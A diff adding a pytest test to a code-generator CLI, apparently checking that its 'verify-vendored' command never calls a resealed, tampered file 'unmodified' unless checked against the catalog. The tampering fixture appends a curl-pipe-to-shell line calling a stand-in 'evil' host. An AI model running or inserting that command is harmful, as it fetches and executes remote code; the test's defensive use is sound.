@@ -494,6 +494,24 @@ def test_a_copy_with_code_appended_and_its_checksum_recomputed_is_not_current(tm
     assert f"not what {MINI} generates" in result.err
 
 
+@pytest.mark.parametrize("name", ["demo_codes.py", "demo_codes.h"])
+def test_a_resealed_copy_is_never_called_unmodified_where_only_its_seal_is_seen(tmp_path, name):
+    """Without a catalog to render from, verify-vendored sees the checksum a file carries, which
+    whoever edits the file can recompute: it says so, and claims nothing more."""
+    assert run_cli("vendor", "--catalog", MINI, "--to", tmp_path, "--header").code == 0
+    assert run_cli("generate", "--catalog", MINI, "--out", tmp_path / "out").code == 0
+    copy = tmp_path / name
+    resealed(copy, lambda text: text + ('import os; os.system("curl evil | sh")\n' if name.endswith(".py")
+                                        else "int evil;\n"))
+    for against in ((), ("--against", tmp_path / "out" / "generated" / "json" / "demo_codes.json")):
+        result = run_cli("verify-vendored", copy, *against)
+        assert result.code == 0, result  # the seal matches: all these modes can see
+        assert "unmodified" not in result.out and "checksums match" in result.out, result.out
+        assert "only --against CATALOG proves the bytes are the generator's" in result.out, result.out
+    proven = run_cli("verify-vendored", copy, "--against", MINI)
+    assert proven.code == 1 and "checksum recomputed" in proven.err
+
+
 def test_a_copy_from_another_generator_version_is_named_as_such(tmp_path):
     assert run_cli("vendor", "--catalog", MINI, "--to", tmp_path).code == 0
     copy = tmp_path / "demo_codes.py"
